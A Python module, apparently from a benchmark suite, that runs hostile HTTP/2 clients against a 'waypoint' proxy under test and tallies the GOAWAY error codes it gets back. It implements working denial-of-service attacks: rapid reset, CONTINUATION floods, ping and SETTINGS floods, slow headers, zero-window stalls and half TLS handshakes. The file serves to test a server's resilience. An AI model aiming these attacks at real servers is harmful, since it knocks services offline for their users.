"""Hostile clients of a waypoint, in a process of their own, which `bench.hostile` starts.

    python -m bench.attackers IP AUTHORITY CHAIN ROOTS CONNECTIONS

They share their work evenly between the attacks below. Each connection acts twice a second, and one that was ended
comes back after five seconds. They go on until standard input ends, and then say how often which GOAWAY came.
"""

import asyncio
import contextlib
import json
import ssl
import struct
import sys
from collections import Counter
from collections.abc import Awaitable, Callable
from functools import partial
from pathlib import Path
from typing import cast

import uvloop
from hpack import Encoder

from l4.http2 import frames
from l4.http2.errors import error_code
from l4.identity.files import load
from l4.identity.source import WorkloadCertificate

STAGGER_SECONDS = 0.02
"""Between two connections at the start, so that handshakes don't come all at once."""

_ACTION_SECONDS = 0.5
_RETURN_SECONDS = 5.0
_GET = b"GET / HTTP/1.1\r\nHost: app\r\n\r\n"
_CANCEL = struct.pack(">I", 8)


class Attacker(asyncio.Protocol):
    """One connection: `frame` and `connect` write to it, and of what comes back only GOAWAY is taken note of."""

    transport: asyncio.Transport

    def __init__(self, authority: bytes, goaways: Counter[str]) -> None:
        self.is_over = False
        self._authority = authority
        self._goaways = goaways
        self._encoder = Encoder()
        self._next = 1
        self._received = b""

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = cast(asyncio.Transport, transport)
        self.transport.write(frames.PREFACE + frames.settings_frame({}))

    def data_received(self, data: bytes) -> None:
        received = self._received + data
        while len(received) >= 9 and len(received) >= (end := 9 + int.from_bytes(received[:3])):
            if received[3] == frames.GOAWAY:
                self._goaways[error_code(int.from_bytes(received[13:17])).name] += 1
            received = received[end:]
        self._received = received

    def connection_lost(self, error: Exception | None) -> None:
        self.is_over = True

    def frame(self, kind: int, flags: int, stream: int, payload: bytes = b"") -> None:
        if not self.transport.is_closing():
            self.transport.write(frames.frame(kind, flags, stream, payload))

    def connect(self, flags: int = frames.END_HEADERS) -> int:
        """A CONNECT that asks for a tunnel."""
        stream, self._next = self._next, self._next + 2
        block = self._encoder.encode([(b":method", b"CONNECT"), (b":authority", self._authority)])
        self.frame(frames.HEADERS, flags, stream, block)
        return stream


async def rapid_reset(it: Attacker) -> None:
    for _ in range(50):
        it.frame(frames.RST_STREAM, 0, it.connect(), _CANCEL)


async def made_you_reset(it: Attacker) -> None:
    for _ in range(50):
        it.frame(frames.WINDOW_UPDATE, 0, it.connect(), bytes(4))


async def continuations(it: Attacker) -> None:
    stream = it.connect(flags=0)
    while not it.is_over:
        it.frame(frames.CONTINUATION, 0, stream, b"")
        await asyncio.sleep(0.1)


async def pings(it: Attacker) -> None:
    for _ in range(200):
        it.frame(frames.PING, 0, 0, bytes(8))


async def unread_pings(it: Attacker) -> None:
    it.transport.pause_reading()
    await pings(it)


async def settings(it: Attacker) -> None:
    for _ in range(20):
        it.frame(frames.SETTINGS, 0, 0)


async def slow_heads(it: Attacker) -> None:
    stream = it.connect()
    for byte in b"GET / HTTP/1.1\r\nX-Slow: " + b"x" * 1000:
        it.frame(frames.DATA, 0, stream, bytes([byte]))
        await asyncio.sleep(1)


async def half_bodies(it: Attacker) -> None:
    head = b"POST / HTTP/1.1\r\nHost: app\r\nContent-Length: 1000000\r\n\r\nhalf"
    it.frame(frames.DATA, 0, it.connect(), head)
    await asyncio.sleep(10)


async def aborts(it: Attacker) -> None:
    for _ in range(5):
        stream = it.connect()
        it.frame(frames.DATA, 0, stream, _GET)
        it.frame(frames.RST_STREAM, 0, stream, _CANCEL)


async def closed_windows(it: Attacker) -> None:
    it.frame(frames.SETTINGS, 0, 0, struct.pack(">HI", frames.INITIAL_WINDOW_SIZE, 0))
    it.frame(frames.DATA, 0, it.connect(), _GET * 10)
    await asyncio.sleep(10)


Attack = Callable[[Attacker], Awaitable[None]]
ATTACKS: tuple[Attack, ...] = (
    rapid_reset,
    made_you_reset,
    continuations,
    pings,
    unread_pings,
    settings,
    slow_heads,
    half_bodies,
    aborts,
    closed_windows,
)


async def _attack(attack: Attack, address: tuple[str, int], make: Callable[[], Attacker], tls: ssl.SSLContext) -> None:
    """Again and again, whatever happens to the connection."""
    while True:
        with contextlib.suppress(OSError):
            loop = asyncio.get_running_loop()
            transport, it = await loop.create_connection(make, *address, ssl=tls, server_hostname="")
            while not it.is_over:
                await attack(it)
                await asyncio.sleep(_ACTION_SECONDS)
            transport.close()
        await asyncio.sleep(_RETURN_SECONDS)


async def _half_handshake(address: tuple[str, int]) -> None:
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection(*address)
            writer.write(b"\x16\x03\x01\x02\x00\x01")
            await reader.read()
            writer.close()
        await asyncio.sleep(_RETURN_SECONDS)


async def attack(address: tuple[str, int], authority: str, chain: Path, roots: Path, connections: int) -> None:
    """Until standard input ends; then say how often which GOAWAY came."""
    tls = WorkloadCertificate(load(chain, chain.with_suffix(".key"), roots)).client_context
    goaways: Counter[str] = Counter()
    over = asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    attackers = []
    for number in range(connections):
        kind = number % (len(ATTACKS) + 1)
        if kind == len(ATTACKS):
            attackers.append(asyncio.create_task(_half_handshake(address)))
        else:
            make = partial(Attacker, authority.encode(), goaways)
            attackers.append(asyncio.create_task(_attack(ATTACKS[kind], address, make, tls)))
        await asyncio.sleep(STAGGER_SECONDS)
    await over
    for task in attackers:
        task.cancel()
    await asyncio.gather(*attackers, return_exceptions=True)
    print(json.dumps(goaways))


def main() -> None:
    ip, authority, chain, roots, connections = sys.argv[1:]
    uvloop.run(attack((ip, 15008), authority, Path(chain), Path(roots), int(connections)))


if __name__ == "__main__":
    main()
